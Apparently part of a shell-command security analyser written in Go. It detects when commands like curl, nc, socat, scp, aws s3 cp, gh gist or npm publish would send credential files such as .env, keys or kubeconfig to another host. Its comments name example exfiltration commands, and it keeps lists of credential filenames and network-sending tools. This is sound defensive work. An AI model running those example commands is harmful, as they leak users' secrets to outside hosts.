var gitNetwork = map[string]bool{"clone": true, "fetch": true, "pull": true, "push": true, "ls-remote": true, "archive": true, "submodule": true, "remote": true}

// gitRemote reports whether call is a git command that talks to a remote
// and returns the hosts its URL operands name: nil when one is not known,
// or when the remote is a name (origin) whose URL is in the repository's
// configuration.
func gitRemote(call *syntax.CallExpr, fs []field) ([]string, bool) {
	args := skipOpts(fs[1:], gitGlobals)
	if len(args) == 0 || args[0].dyn || !gitNetwork[args[0].val] || len(fs) != len(call.Args) {
		return nil, len(args) > 0 && args[0].dyn
	}
	var hosts []string
	for i, f := range fs {
		if !strings.Contains(f.val, "://") {
			continue
		}
		h, ok := wordHost(call.Args[i])
		if !ok {
			return nil, true
		}
		hosts = append(hosts, h)
	}
	if len(hosts) == 0 {
		return nil, true // a remote's name, or a path: not known here
	}
	return hosts, true
}

// wordHost returns the host a URL word (or a host/path word) names, and
// false when a part that is not literal may be in the host: in
// https://api.github.com$X/ the host may go on; in
// https://user:$TOKEN@github.com/ it is known. A host other than this
// machine reached over a scheme that does not encrypt is marked overPlain,
// which no credential's home is.
func wordHost(w *syntax.Word) (string, bool) {
	text := literalText(w, true) // a NUL for each part that is not literal
	rest := authority(text)
	if strings.IndexByte(rest, 0) >= 0 {
		return "", false
	}
	host, _, ok := splitHostPath(rest)
	if ok && host != "" && cleartextURL(text) && !loopback(host) {
		host += overPlain
	}
	return host, ok && host != ""
}

// destinations returns the hosts a network sender sends to, or nil when
// some are not known: an operand whose host is not literal, an option
// that sends the request elsewhere, or a program whose destinations the
// analyser does not read.
func (r *run) destinations(sc *scope, b string, call *syntax.CallExpr, fs []field) []string {
	for _, as := range call.Assigns {
		if as.Name != nil && (elsewhere[as.Name.Value] || b == "gh" && strings.HasPrefix(as.Name.Value, "GH_")) {
			return nil
		}
	}
	// The same variables given earlier in the script (export
	// https_proxy=...; curl ...), exported or not: a later export, set -a
	// or a sourcing shell passes them on (the safer reading).
	for _, name := range elsewhereEnv {
		if _, set := sc.vars[name]; set {
			return nil
		}
		if _, set := sc.inherit[name]; set {
			return nil
		}
	}
	if b == "gh" {
		for name := range sc.vars {
			if strings.HasPrefix(name, "GH_") {
				return nil
			}
		}
		// gh talks to github.com unless told another host, or given a
		// whole URL (gh api https://HOST/...).
		for i, f := range fs[1:] {
			if strings.HasPrefix(f.val, "--hostname") || f.dyn && maybeOption(f) {
				return nil
			}
			if strings.Contains(f.val, "://") {
				if h, ok := wordHost(call.Args[min(i+1, len(call.Args)-1)]); ok && len(fs) == len(call.Args) {
					return []string{h}
				}
				return nil
			}
		}
		return []string{"github.com"}
	}
	if n := asciiLower(b); n == "iwr" || n == "irm" || n == "invoke-webrequest" || n == "invoke-restmethod" {
		// PowerShell's web cmdlets: -Uri's value, or the first value,
		// is the URL; the first word holding :// names it.
		if len(fs) == len(call.Args) {
			for i := 1; i < len(fs); i++ {
				if strings.Contains(fs[i].val, "://") && fs[i].val[0] != '-' {
					if h, ok := wordHost(call.Args[i]); ok {
						return []string{h}
					}
					break
				}
			}
		}
		return nil
	}
	if !urlPrograms[b] || len(fs) != len(call.Args) {
		return nil // braces or split words: fields and words differ
	}
	ce, _ := r.a.lookupEntry(b)
	var ops []int // indices of the operands in fs
	for i := 1; i < len(fs); i++ {
		v := fs[i].val
		switch {
		case len(v) < 2 || v[0] != '-':
			ops = append(ops, i)
		case v == "--":
			for i++; i < len(fs); i++ {
				ops = append(ops, i)
			}
		case strings.HasPrefix(v, "--"):
			name, _, attached := strings.Cut(v, "=")
			if elsewhere[b+" "+name] {
				return nil
			}
			if name == "--url" || name == "--expand-url" {
				if !attached {
					i++
				}
				if name == "--expand-url" && strings.Contains(authority(fs[min(i, len(fs)-1)].val), "{{") {
					return nil // a host curl's own variable names (8.3 and later)
				}
				ops = append(ops, min(i, len(fs)-1)) // wordHost reads past --url=
				continue
			}
			if ce == nil {
				continue
			}
			if os, ok := ce.option(name); ok && os[0].Takes > 0 && !os[0].attachedOnly && !attached {
				i += os[0].Takes
			}
		default: // a group of short options: -sSLo FILE, -H'x: y'
			for j := 1; j < len(v); j++ {
				name := "-" + v[j:j+1]
				if elsewhere[b+" "+name] {
					return nil
				}
				if ce == nil {
					continue
				}
				if os, ok := ce.opts[name]; ok && os[0].Takes > 0 {
					if j+1 == len(v) {
						i += os[0].Takes
					}
					break
				}
			}
		}
	}
	if b != "curl" && b != "wget" {
		// [METHOD] URL [REQUEST_ITEM ...]: the items are headers and data.
		if len(ops) > 1 && !fs[ops[0]].dyn && strings.ToUpper(fs[ops[0]].val) == fs[ops[0]].val && !strings.ContainsAny(fs[ops[0]].val, ".:/") {
			ops = ops[1:]
		}
		ops = ops[:min(len(ops), 1)]
	}
	var hosts []string
	for _, i := range ops {
		h, ok := wordHost(call.Args[i])
		if !ok {
			return nil
		}
		hosts = append(hosts, h)
	}
	return hosts
}

// overPlain marks a destination reached over a scheme that does not
// encrypt (http://, ws://, ftp://): it is no credential's home, since
// whoever is on the way reads what is sent. A loopback host is not marked.
const overPlain = " over plain text"

// cleartextURL reports whether a URL's scheme sends in the clear.
func cleartextURL(u string) bool {
	scheme, _, ok := strings.Cut(u, "://")
	if !ok {
		return false
	}
	switch asciiLower(scheme) {
	case "http", "ws", "ftp":
		return true
	}
	return false
}

// credentialFileSent asks when a command sends a file whose name says it
// holds a credential to another host (secret-egress): an upload or a
// request body read from it (curl -T .env, curl -F f=@.env, curl -d
// @.env, wget --post-file=.env, http URL f@.env), a gist, snippet or paste
// of it (gh gist create .env), a copy to a bucket or a remote (aws s3 cp
// .env s3://..., rclone copy .env remote:), or the file on the standard
// input of a program that sends its input (nc HOST PORT < .env), directly
// or through a reader in a pipe (cat .env | curl -d @- URL). The name
// decides as the credential-name net's does (.env, .env.production, *.pem,
// *.key, credentials.json, id_rsa, secrets.yaml), wherever the file is,
// the roots included: reading it there is work, sending it away is not
// (see docs/security-model.md, Hardline).
func (r *run) credentialFileSent(sc *scope, s *syntax.Stmt, call *syntax.CallExpr, fs []field, cmd string) {
	b := base(fs[0].val)
	files := sentFiles(b, fs[1:])
	if stdinSenders[b] || networkSenders[b] {
		for _, rd := range s.Redirs {
			if rd.Op == syntax.RdrIn && (rd.N == nil || rd.N.Value == "0") {
				files = append(files, r.word(sc, rd.Word))
			}
		}
		if up := sc.pipeUp[s]; up != nil {
			files = append(files, r.readerFiles(sc, up)...)
		}
	}
	for _, f := range files {
		if f.dyn {
			continue
		}
		if w, p, ok := r.writtenAt(f); ok && (w.environ || w.secret != "") {
			where := r.sentTo(sc, b, call, fs)
			if w.environ {
				r.finding(ruleSensitivePath, Path, Block, b+" sends "+p+", which this command filled with the environment and every secret in it, "+where, cmd, "")
				return
			}
			r.finding(ruleSecretEgress, Path, Ask, b+" sends "+p+", which this command filled with "+valueShown(w.secret)+", "+where, cmd, "")
			return
		}
		if why, ok := r.credentialFileOf(f); ok {
			r.finding(ruleSecretEgress, Path, Ask, b+" sends "+f.val+", a file whose name says it holds a credential ("+why+"), "+r.sentTo(sc, b, call, fs), cmd, "")
			return
		}
	}
}

// toolCredentialFiles are the names tools give their credentials files
// that the home folder's sensitive lists do not hold (a project's
// terraform.tfstate holds its resources' secrets in clear, a kubeconfig
// or an .envrc its tokens).
var toolCredentialFiles = setOf("kubeconfig", ".kubeconfig", ".envrc", ".dockercfg", ".dockerconfigjson", "terraform.rc",
	"terraform.tfstate", "terraform.tfstate.backup", ".pulumi-credentials")

// toolCredentialFile reports whether the file p names holds a tool's
// credentials by where the tool keeps them: its path ends as a file the
// home's sensitive lists name does, wherever it lies (a project's .npmrc,
// deploy/.kube/config, .config/gh/hosts.yml: matchHomeRel), in any case;
// its name is one of toolCredentialFiles; or it is a repository's
// configuration, .git/config or a bare repository's x.git/config (its
// remotes' tokens, the headers a CI checkout leaves). A backslash is read
// as a separator, as Windows reads it.
func (a *Analyzer) toolCredentialFile(p string) (string, bool) {
	p = path.Clean(strings.ReplaceAll(p, "\\", "/"))
	if b := path.Base(p); toolCredentialFiles[asciiLower(b)] || toolCredentialFiles[asciiLower(strings.TrimSuffix(b, path.Ext(b)))] {
		return "a tool's credentials file, " + b, true // (kubeconfig.yaml too)
	}
	if strings.HasSuffix(p, ".git/config") {
		return "a git repository's configuration", true
	}
	rel := "/" + strings.TrimPrefix(p, "/")
	for i := 0; ; {
		for _, end := range [...]string{rel[i:], asciiLower(rel[i:])} {
			if pat, ok := a.matchHomeRel(a.relKey(end)); ok {
				return "a tool's credentials file, as a home's " + pat + " is", true
			}
		}
		j := strings.IndexByte(rel[i+1:], '/')
		if j < 0 {
			return "", false
		}
		i += 1 + j
	}
}

// sentTo says where a program sends a file: to the hosts its words name,
// or to another host.
func (r *run) sentTo(sc *scope, b string, call *syntax.CallExpr, fs []field) string {
	if hosts := r.destinations(sc, b, call, fs); len(hosts) > 0 {
		return "to " + strings.Join(hosts, ", ")
	}
	return "to another host"
}

// uploadVerbs are the words by which a sub-command sends the files it is
// given to another host: az storage blob upload, oci os object put, b2
// upload-file, croc send, wrangler r2 object put. A word counts when one
// of its pieces, split at '-', '_' and ':', is one, in lower case as
// sub-commands are written (upload-batch, blob-upload; not curl -X PUT's
// method); hdfs dfs -put and -copyFromLocal name theirs as options
// (uploadOptions).
var uploadVerbs = setOf("upload", "put", "send", "share", "push", "publish", "transfer")

// uploadOptions are the options, without their dashes, that name an upload
// as a sub-command would.
var uploadOptions = setOf("put", "copyFromLocal", "moveFromLocal", "appendToFile", "upload")

// copyVerbs are the words by which a storage tool's sub-command copies
// files between this machine and a bucket or remote: they send what they
// copy when an operand names a remote by a scheme (gcloud storage cp FILE
// gs://b, aliyun oss cp FILE oss://b; mc, whose remotes are written as
// paths, is one of fileUploaders).
var copyVerbs = setOf("cp", "copy", "copyto", "sync", "mirror", "mv", "move", "rsync")

// uploadedCredentialFile judges a command whose sub-command sends files
// (see uploadVerbs and copyVerbs), among its first three words that are
// not options, given a file whose name says it holds a credential (as an
// operand, or an option's value): it asks as sending that file does
// (secret-egress). Cloud and transfer tools are many and new, so this
// net covers those the catalogue does not describe as uploaders (croc
// send FILE too, a sender whose input sentFiles reads; see mayUpload).
func (r *run) uploadedCredentialFile(sc *scope, call *syntax.CallExpr, fs []field, cmd string) {
	b := base(fs[0].val)
	verb, words := "", 0
	for _, a := range fs[1:] {
		v := a.val
		if strings.HasPrefix(v, "-") {
			if uploadOptions[strings.TrimLeft(v, "-")] {
				verb = v
				break
			}
			continue
		}
		if words++; words > 3 {
			return
		}
		if slices.ContainsFunc(strings.FieldsFunc(v, func(c rune) bool { return c == '-' || c == '_' || c == ':' }), func(w string) bool { return uploadVerbs[w] }) {
			verb = v
			break
		}
		if copyVerbs[v] && slices.ContainsFunc(fs[1:], remoteSchemeWord) {
			verb = v
			break
		}
	}
	if verb == "" {
		return
	}
	if svc := awsService(fs[1:]); b == "aws" && (svc == "secretsmanager" || svc == "ssm") {
		// A secret stored where secrets are kept (put-secret-value,
		// put-parameter): kept, not sent on. (Azure Key Vault's and
		// Google Secret Manager's set and add are no upload verbs.)
		return
	}
	for _, f := range fs[1:] {
		if i := strings.IndexByte(f.val, '='); i > 0 && strings.HasPrefix(f.val, "-") {
			f.val = f.val[i+1:] // --file=.env
		}
		f.val = localFileValue(f.val)
		if f.dyn || strings.Contains(f.val, "://") {
			continue // (a URL is where it sends, read by the sender's own rules)
		}
		if !strings.ContainsAny(f.val, "./\\") && (r.cwd == "" || !r.exists(r.cwd+"/"+f.val)) {
			continue // a word that is no file's path nor a file there (twine upload -u __token__)
		}
		if why, ok := r.credentialFileOf(f); ok {
			r.finding(ruleSecretEgress, Path, Ask, b+" "+verb+" sends "+f.val+", a file whose name says it holds a credential ("+why+"), "+r.sentTo(sc, b, call, fs), cmd, "")
			return
		}
	}
}

// awsService returns the service an AWS CLI line names: its first word
// that is neither an option nor a global option's value.
func awsService(args []field) string {
	for i := 0; i < len(args); i++ {
		switch v := args[i].val; {
		case slices.Contains(awsGlobalValues, v):
			i++
		case !strings.HasPrefix(v, "-"):
			return v
		}
	}
	return ""
}

// awsGlobalValues are the AWS CLI's global options that take a value.
var awsGlobalValues = []string{"--region", "--profile", "--output", "--endpoint-url", "--query", "--color", "--ca-bundle",
	"--cli-read-timeout", "--cli-connect-timeout", "--cli-binary-format"}

// localFileValue returns the local file a value names by a command-line
// tool's convention for a file's contents in place of a value (the AWS
// CLI's file://PATH and fileb://PATH, the Azure CLI's and HTTPie's
// @PATH), or v itself.
func localFileValue(v string) string {
	for _, p := range []string{"file://", "fileb://", "@"} {
		if rest, ok := strings.CutPrefix(v, p); ok && rest != "" {
			return rest
		}
	}
	return v
}

// mayUpload reports whether uploadedCredentialFile judges program b: one
// the catalogue does not describe, or describes as a storage, network or
// cloud tool (its "storage", "network" and "credentials" families), but
// not one whose uploads fileUploaders or gh's reader read, nor a local
// tool's (grep send .env searches the file).
func (r *run) mayUpload(b string) bool {
	if fileUploaders[b] || b == "gh" {
		return false
	}
	ce, extra := r.a.lookupEntry(b)
	if ce == nil {
		return len(extra) == 0
	}
	switch ce.e.Family {
	case "storage", "network", "credentials":
		return true
	}
	return false
}

// remoteSchemeWord reports whether f names a remote by a URL's scheme
// (gs://, oss://, ss://, https://), not a local file (file://).
func remoteSchemeWord(f field) bool {
	i := strings.Index(f.val, "://")
	return i > 0 && !strings.EqualFold(f.val[:i], "file") && isName(f.val[:i])
}

// fileUploaders are programs whose operands sentFiles reads as files sent
// to another host (besides networkSenders).
var fileUploaders = setOf("wget2", "xhs", "httpie", "glab", "gist", "aws", "gsutil", "rclone", "s3cmd", "mc", "azcopy", "s5cmd",
	"Start-BitsTransfer", "start-bitstransfer", "tftp", "s-nail", "neomutt")

// stdinSenders are programs that send what they read on their standard
// input to another host (besides networkSenders).
var stdinSenders = setOf("pastebinit", "termbin", "gist", "ix", "sprunge")

// printsFiles reports whether program b, given files, may print what
// they hold (or an encoding of it) on its standard output, so that a pipe
// or a substitution carries them: any program but those that print only
// names of files or facts about them (factPrinters). A reader the
// analyser does not know (grep KEY .env, rg, paste, diff, a script) is
// one: which programs print their files is an open class.
func printsFiles(b string) bool { return !factPrinters[b] }

// factPrinters are the programs that, given files, print their names or
// facts about them (a size, a type, a digest), never what they hold, or
// print nothing.
var factPrinters = setOf("ls", "stat", "file", "wc", "du", "df", "test", "[", "[[", "echo", "printf", "basename", "dirname",
	"realpath", "readlink", "touch", "mkdir", "rmdir", "rm", "cp", "mv", "ln", "chmod", "chown", "chgrp", "true", "false",
	"md5sum", "sha1sum", "sha224sum", "sha256sum", "sha384sum", "sha512sum", "b2sum", "cksum", "shasum", "sum", "b3sum",
	"find", "fd", "which", "type", "command", "lsof", "fuser", "sleep", "cd", "pwd", "id", "whoami", "date", "exit", "return")

// readerFiles returns the files the command writing into a pipe prints:
// the operands of a reader (cat .env | ...), at the pipe's end of a
// pipeline too.
func (r *run) readerFiles(sc *scope, up *syntax.Stmt) []field {
	stages := pipeStages(up)
	var out []field
	for _, st := range stages {
		fs := r.argv(sc, st)
		if len(fs) == 0 || !printsFiles(base(fs[0].val)) {
			continue
		}
		for _, f := range fs[1:] {
			if !strings.HasPrefix(f.val, "-") {
				out = append(out, f)
			}
		}
		for _, rd := range st.Redirs {
			if rd.Op == syntax.RdrIn && (rd.N == nil || rd.N.Value == "0") {
				out = append(out, r.word(sc, rd.Word)) // base64 < .env | nc HOST PORT
			}
		}
	}
	return out
}

// sentFiles returns the files program b, given args, sends to another
// host by name (see credentialFileSent).
func sentFiles(b string, args []field) []field {
	var out []field
	file := func(f field, v string) {
		f.val = v
		out = append(out, f)
	}
	sub := ""
	for i := 0; i < len(args); i++ {
		a := args[i]
		v := a.val
		next := func() (field, bool) {
			if i+1 < len(args) {
				i++
				return args[i], true
			}
			return field{}, false
		}
		// valueOf takes the file an option among names gives, as the next
		// word or after a long option's '=' (--post-file=FILE), and
		// reports whether v was one.
		valueOf := func(names ...string) bool {
			for _, o := range names {
				if v == o {
					if n, ok := next(); ok {
						out = append(out, n)
					}
					return true
				}
				if rest, ok := strings.CutPrefix(v, o+"="); ok && strings.HasPrefix(o, "--") {
					file(a, rest)
					return true
				}
			}
			return false
		}
		switch b {
		case "curl":
			switch {
			case valueOf("-T", "--upload-file"):
			case strings.HasPrefix(v, "-T") && len(v) > 2:
				file(a, v[2:])
			case v == "-d" || v == "--data" || v == "--data-binary" || v == "--data-ascii" || v == "--data-urlencode" || v == "--json" ||
				v == "--expand-data" || v == "--expand-data-binary" || v == "--expand-data-urlencode" || v == "--expand-json" ||
				v == "--url-query" || v == "--expand-url-query":
				if n, ok := next(); ok {
					if j := strings.IndexByte(n.val, '@'); j >= 0 && (j == 0 || strings.HasSuffix(v, "-urlencode")) {
						file(n, n.val[j+1:])
					}
				}
			case v == "-H" || v == "--header" || v == "--proxy-header" || v == "--expand-header":
				// -H @FILE sends the file's lines as headers.
				if n, ok := next(); ok && strings.HasPrefix(n.val, "@") {
					file(n, n.val[1:])
				}
			case valueOf("-K", "--config"):
				// A config file's options (header = "...", data = "...")
				// are sent as given on the command line.
			case v == "-F" || v == "--form":
				if n, ok := next(); ok {
					if _, val, found := strings.Cut(n.val, "="); found && (strings.HasPrefix(val, "@") || strings.HasPrefix(val, "<")) {
						name, _, _ := strings.Cut(val[1:], ";")
						file(n, name)
					}
				}
			}
		case "wget", "wget2":
			valueOf("--post-file", "--body-file")
		case "http", "https", "xh", "xhs", "httpie":
			if j := strings.IndexByte(v, '@'); j >= 0 && !strings.HasPrefix(v, "-") && !strings.Contains(v, "://") {
				file(a, v[j+1:]) // field@FILE, field=@FILE, @FILE
			}
		case "pastebinit", "gist":
			if !strings.HasPrefix(v, "-") {
				out = append(out, a)
			}
		case "Invoke-WebRequest", "invoke-webrequest", "iwr", "Invoke-RestMethod", "invoke-restmethod", "irm":
			// -InFile FILE is the request's body (PowerShell reads its
			// parameters in any case and by any unique prefix).
			if l := asciiLower(v); len(l) > 2 && strings.HasPrefix("-infile", l) {
				if n, ok := next(); ok {
					out = append(out, n)
				}
			}
		case "Start-BitsTransfer", "start-bitstransfer":
			// -Source FILE of an upload (-TransferType Upload).
			if l := asciiLower(v); l == "-source" && slices.ContainsFunc(args, func(f field) bool { return asciiLower(f.val) == "upload" }) {
				if n, ok := next(); ok {
					out = append(out, n)
				}
			}
		case "socat":
			// socat FILE:.env TCP:HOST:PORT sends the file's address to the
			// other (or serves it to whoever connects): FILE:, OPEN:,
			// GOPEN:, or a word with a slash and no type (GOPEN), its
			// options after a comma.
			typ, rest, typed := strings.Cut(v, ":")
			switch {
			case typed && slices.Contains([]string{"file", "open", "gopen"}, asciiLower(typ)):
				file(a, strings.SplitN(rest, ",", 2)[0])
			case !typed && strings.Contains(v, "/") && !strings.HasPrefix(v, "-"):
				file(a, strings.SplitN(v, ",", 2)[0])
			}
		case "mail", "mailx", "s-nail", "mutt", "neomutt":
			// An attachment: -a FILE (mutt, s-nail, BSD mailx), -A FILE
			// (GNU mailutils), --attach=FILE.
			valueOf("-a", "-A", "--attach")
		case "tftp":
			// tftp HOST -c put FILE; busybox's tftp -p -l FILE HOST.
			if !valueOf("put") && slices.ContainsFunc(args, func(f field) bool { return f.val == "-p" }) {
				valueOf("-l")
			}
		case "lftp", "ftp", "sftp", "smbclient":
			// The commands given to run (lftp -e/-c "put .env; bye",
			// smbclient -c 'put .env'): what put, mput and reput name.
			if v == "-c" || v == "-e" {
				if n, ok := next(); ok && !n.dyn {
					for _, cmd := range strings.FieldsFunc(n.val, func(c rune) bool { return c == ';' || c == '&' || c == '\n' }) {
						if ws := strings.Fields(cmd); len(ws) > 1 && (ws[0] == "put" || ws[0] == "mput" || ws[0] == "reput") {
							for _, w := range ws[1:] {
								file(n, strings.Trim(w, "'\"")) // (an option's word names no credential)
							}
						}
					}
				}
			}
		case "gh", "glab":
			// A body or request read from a file: gh issue create
			// --body-file FILE (or -F FILE), gh api --input FILE, gh api
			// -F field=@FILE.
			switch {
			case valueOf("--body-file", "--input") || (sub == "issue" || sub == "pr") && valueOf("-F"):
				continue
			case v == "-F" || v == "--field":
				if n, ok := next(); ok {
					if _, val, found := strings.Cut(n.val, "="); found && strings.HasPrefix(val, "@") {
						file(n, val[1:])
					}
				}
				continue
			}
			// gh gist create FILE..., gh release upload TAG FILE...,
			// glab snippet create FILE or -f FILE.
			switch {
			case sub == "" && !strings.HasPrefix(v, "-"):
				sub = v
			case sub == "gist" || sub == "snippet" || sub == "release":
				if v == "-f" || v == "--filename" {
					if n, ok := next(); ok && b == "glab" {
						out = append(out, n)
					}
					continue
				}
				if !strings.HasPrefix(v, "-") && v != "create" && v != "upload" && v != "new" {
					out = append(out, a)
				}
			}
		}
	}
	switch b {
	case "scp", "rsync":
		// scp FILE HOST:PATH, rsync FILE HOST:: the local operands before
		// a remote one are sent to it; an option's value (scp -i KEY) is
		// not.
		val := map[string]string{"scp": "cFiJloPS", "rsync": "efTB"}[b]
		p := parseOpts(args, val, []string{"--rsh", "--filter", "--exclude", "--include", "--temp-dir", "--partial-dir", "--backup-dir",
			"--files-from", "--exclude-from", "--include-from", "--chmod", "--chown", "--log-file", "--password-file", "--port"}, "")
		var local []field
		for _, o := range p.ops {
			if strings.IndexByte(o.val, ':') >= 1 { // a host's (C:\x reads as one too: the safer reading)
				out = append(out, local...)
				local = nil
				continue
			}
			local = append(local, o)
		}
	case "mc":
		// mc cp SRC... ALIAS/BUCKET: a remote is written as a path (its
		// alias first), so every operand but the last, after the
		// sub-command, may be a local file sent (the stricter reading).
		var ops []field
		for _, a := range args {
			if !strings.HasPrefix(a.val, "-") || a.val == "-" {
				ops = append(ops, a)
			}
		}
		if len(ops) > 2 {
			out = append(out, ops[1:len(ops)-1]...)
		}
	case "aws", "gsutil", "rclone", "s3cmd", "azcopy", "s5cmd":
		// aws s3 cp SRC DST, gsutil cp SRC DST, rclone copy SRC REMOTE:,
		// s3cmd put SRC s3://...: a local operand before a remote one is
		// sent to it (aws s3 cp s3://b/.env .env fetches instead). The AWS
		// CLI's other services are judged by their verbs (see
		// uploadedCredentialFile): an ARN is no remote.
		if b == "aws" && awsService(args) != "s3" {
			break
		}
		var local []field
		for _, a := range args {
			switch {
			case strings.HasPrefix(a.val, "-") && a.val != "-": // (- is the standard input)
			case strings.Contains(a.val, ":"):
				out = append(out, local...)
				local = nil
			default:
				local = append(local, a)
			}
		}
	}
	return out
}

// publishedPackage judges a package manager's publish (npm publish, pnpm
// publish, yarn publish and yarn npm publish, bun publish): the package
// folder (the working folder, or a folder the line names) is packed and
// sent to the registry, public by default, and a file at its top whose
// name says it holds a credential (.env) goes with it, and asks as
// sending it does (secret-egress), unless the package leaves it out:
// package.json's files list does not name it, or .npmignore (else
// .gitignore, which npm reads when there is none) names it. npm never
// leaves out an environment file by itself.
func (r *run) publishedPackage(b string, args []field, cmd string) {
	switch b {
	case "npm", "pnpm", "yarn", "bun":
	case "cargo":
		r.publishedCrate(args, cmd)
		return
	default:
		return
	}
	// publish is one of the first words that are not options: a global
	// option's value may come first (npm --registry URL publish), and
	// yarn's npm before it (yarn npm publish).
	words := slices.DeleteFunc(slices.Clone(args), func(f field) bool { return strings.HasPrefix(f.val, "-") })
	i := slices.IndexFunc(words[:min(len(words), 3)], func(f field) bool { return !f.dyn && f.val == "publish" })
	if i < 0 || slices.ContainsFunc(args, func(f field) bool { return f.val == "--dry-run" }) {
		return
	}
	words = words[i:]
	// The folder is the word after publish when it names one (npm
	// publish ./pkg), else the working folder (that word may be an
	// option's value: pnpm publish --access public).
	dirs := []field{{val: "."}}
	if len(words) > 1 {
		if _, tarball := packageFile(words[1].val); tarball {
			return // a tarball packed before: its files are not listed here
		}
		dirs = append([]field{words[1]}, dirs...)
	}
	for _, dir := range dirs {
		abs, names, ok := r.listedFolder(dir)
		if !ok || len(names) == 0 {
			continue // (a word that names no folder lists nothing)
		}
		r.packedCredential(abs, names, b, cmd, r.leftOutOfPackage)
		return
	}
}

// packedCredential asks when a name at the top of the package folder abs
// says the file holds a credential and leftOut does not leave it out of
// what b publish packs and sends.
func (r *run) packedCredential(abs string, names []string, b, cmd string, leftOut func(dir, name, b, cmd string) bool) {
	for _, n := range names {
		why, hit := r.a.credentialFile(n)
		if !hit || leftOut(abs, n, b, cmd) {
			continue
		}
		r.finding(ruleSecretEgress, Path, Ask, b+" publish packs "+abs+", which holds "+n+", a file whose name says it holds a credential ("+why+"), and sends it to the registry", cmd, "")
		return
	}
}

// publishedCrate judges cargo publish as publishedPackage judges npm's:
// cargo packs every file of the package's folder (--manifest-path's, else
// the working folder) but those Cargo.toml's include list leaves out or
// its exclude list names, and those .gitignore names (leftOutOfCrate).
// --dry-run sends nothing.
func (r *run) publishedCrate(args []field, cmd string) {
	p := parseOpts(args, "pjZ", []string{"--manifest-path", "--package", "--registry", "--index", "--token", "--target", "--target-dir", "--jobs", "--features", "--config", "--color"}, "")
	if len(p.ops) == 0 || p.ops[0].dyn || p.ops[0].val != "publish" || p.has("--dry-run") || strings.ContainsRune(p.short, 'n') {
		return
	}
	dir := field{val: "."}
	if m := p.get("--manifest-path"); len(m) > 0 {
		if m[0].dyn {
			return
		}
		dir.val = path.Dir(r.a.slash(m[0].val))
	}
	if abs, names, ok := r.listedFolder(dir); ok {
		r.packedCredential(abs, names, "cargo", cmd, r.leftOutOfCrate)
	}
}

// leftOutOfCrate reports whether cargo leaves the file name at the top of
// the package in dir out of what it packs: Cargo.toml's package include
// list is there and no pattern of it matches name, or its exclude list
// or .gitignore has a pattern that does.
func (r *run) leftOutOfCrate(dir, name, b, cmd string) bool {
	if text, _, ok := r.readOnDisk(field{val: dir + "/Cargo.toml"}, b, cmd, false); ok {
		for _, sec := range tomlSections(text) {
			if sec.name != "package" {
				continue
			}
			if inc, ok := tomlStringArray(sec.body, "include"); ok {
				return !slices.ContainsFunc(inc, func(p string) bool { return ignoreMatch(p, name) })
			}
			if exc, ok := tomlStringArray(sec.body, "exclude"); ok && slices.ContainsFunc(exc, func(p string) bool { return ignoreMatch(p, name) }) {
				return true
			}
		}
	}
	if text, _, ok := r.readOnDisk(field{val: dir + "/.gitignore"}, b, cmd, false); ok {
		for line := range strings.SplitSeq(text, "\n") {
			if ignoreMatch(strings.TrimSpace(line), name) {
				return true
			}
		}
	}
	return false
}

// tomlStringArray returns the strings of the array a TOML table's body
// gives key (key = ["a", 'b', ...], over several lines too), and whether
// the key is there.
func tomlStringArray(body, key string) ([]string, bool) {
	for i := 0; i < len(body); {
		line, _, _ := strings.Cut(body[i:], "\n")
		k, v, ok := strings.Cut(line, "=")
		if !ok || strings.TrimSpace(k) != key || !strings.HasPrefix(strings.TrimSpace(v), "[") {
			i += len(line) + 1
			continue
		}
		rest := body[i+len(k)+1:]
		end := strings.IndexByte(rest, ']')
		if end < 0 {
			end = len(rest)
		}
		var out []string
		for _, part := range strings.Split(strings.TrimSpace(rest[:end])[1:], ",") {
			if s := strings.Trim(strings.TrimSpace(part), `"'`); s != "" {
				out = append(out, s)
			}
		}
		return out, true
	}
	return nil, false
}

// listedFolder returns the first path a folder's word resolves to whose
// names can be listed, with them.
func (r *run) listedFolder(dir field) (string, []string, bool) {
	for _, abs := range r.resolve(dir).paths {
		if names, ok := r.listed(abs); ok {
			return abs, names, true
		}
	}
	return "", nil, false
}

// leftOutOfPackage reports whether the package in dir leaves the file
// name at its top out of what npm packs: package.json's files list is
// there and no entry of it matches name, or the ignore file npm reads
// (.npmignore, else .gitignore) has a line that matches it.
func (r *run) leftOutOfPackage(dir, name, b, cmd string) bool {
	if text, _, ok := r.readOnDisk(field{val: dir + "/package.json"}, b, cmd, false); ok {
		var pkg struct {
			Files []string `json:"files"`
		}
		if json.Unmarshal([]byte(text), &pkg) == nil && pkg.Files != nil {
			return !slices.ContainsFunc(pkg.Files, func(p string) bool { return ignoreMatch(p, name) })
		}
	}
	for _, f := range []string{".npmignore", ".gitignore"} {
		text, _, ok := r.readOnDisk(field{val: dir + "/" + f}, b, cmd, false)
		if !ok {
			continue
		}
		for line := range strings.SplitSeq(text, "\n") {
			if ignoreMatch(strings.TrimSpace(line), name) { // (a comment, a negation and a blank match no name)
				return true
			}
		}
		return false // npm reads .gitignore only when there is no .npmignore
	}
	return false
}

// ignoreMatch reports whether an ignore file's or a files list's pattern
// matches a name at the package's top: the pattern, without a leading
// "/" or "./" and a trailing "/", matches it as path.Match does.
func ignoreMatch(pattern, name string) bool {
	p := strings.TrimSuffix(strings.TrimPrefix(strings.TrimPrefix(pattern, "./"), "/"), "/")
	m, _ := path.Match(p, name)
	return m
}

// printsOnly reports whether b only prints the text it is given (echo,
// printf, and the builtins that take text).
func (r *run) printsOnly(b string) bool {
	if b == "printf" {
		return true
	}
	ce, _ := r.a.lookupEntry(b)
	return ce != nil && textOnly(ce.e)
}

// credentialInName is a variable's expansion followed by two or more
// labels of a host name ($T.example.com, ${T}.a.example).
var credentialInName = regexp.MustCompile(`\$\{?([A-Za-z_][A-Za-z0-9_]*)\}?\.[A-Za-z0-9-]+\.[A-Za-z]`)

// credentialHostNames returns the credentials whose values the words of
// call build host names from.
func (r *run) credentialHostNames(sc *scope, call *syntax.CallExpr) []string {
	var names []string
	for _, w := range call.Args[1:] {
		t := r.nodeText(sc, w)
		if !strings.Contains(t, "$") {
			continue
		}
		for _, m := range credentialInName.FindAllStringSubmatch(t, maxEmbedded) {
			if r.a.isCredential(m[1]) && !slices.Contains(names, m[1]) {
				names = append(names, m[1])
			}
		}
	}
	return names
}
